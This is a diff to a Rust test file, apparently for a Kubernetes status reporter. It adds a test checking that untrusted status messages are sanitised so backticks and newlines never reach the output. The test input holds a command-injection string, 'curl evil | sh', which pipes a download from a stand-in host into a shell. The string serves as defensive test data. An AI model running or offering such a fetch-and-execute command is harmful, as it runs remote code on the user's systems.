@@ -87,6 +87,30 @@ fn trouble(reason: Reason) -> Trouble {
     Trouble::new(reason, "so")
 }
 
+/// Before this was mended, what an API server or a Deployment says stood in the status as it is.
+#[test]
+fn the_words_of_others_are_one_line_that_looks_like_no_command() {
+    let evil = "no `curl evil | sh`\nx";
+    let late = json!([
+        { "type": "Progressing", "status": "False", "reason": "ProgressDeadlineExceeded", "message": evil },
+    ]);
+    let metadata = json!({ "generation": 1 });
+    let deployment =
+        json!({ "metadata": metadata, "status": { "observedGeneration": 1, "conditions": late } });
+    let identity = Some(evil.to_owned());
+    let former = DatabaseStatus { identity: evil.into(), before: identity, changed: None };
+    for scene in [
+        Scene { outcome: Outcome::Forbidden(evil.into()), ..scene() },
+        Scene { outcome: Outcome::Failed(evil.into()), ..scene() },
+        Scene { deployment, health: healthy(2, 0), ..scene() },
+        Scene { former: Some(former), ..scene() },
+    ] {
+        let verdicts = judged(scene);
+        let says = |text: &str| verdicts.iter().any(|verdict| verdict.message.contains(text));
+        assert!(says("'curl evil | sh'") && !says("`curl") && !says("\n"), "{verdicts:?}");
+    }
+}
+
 #[test]
 fn all_is_well() {
     check(scene(), "tfftttf", Reason::Succeeded);
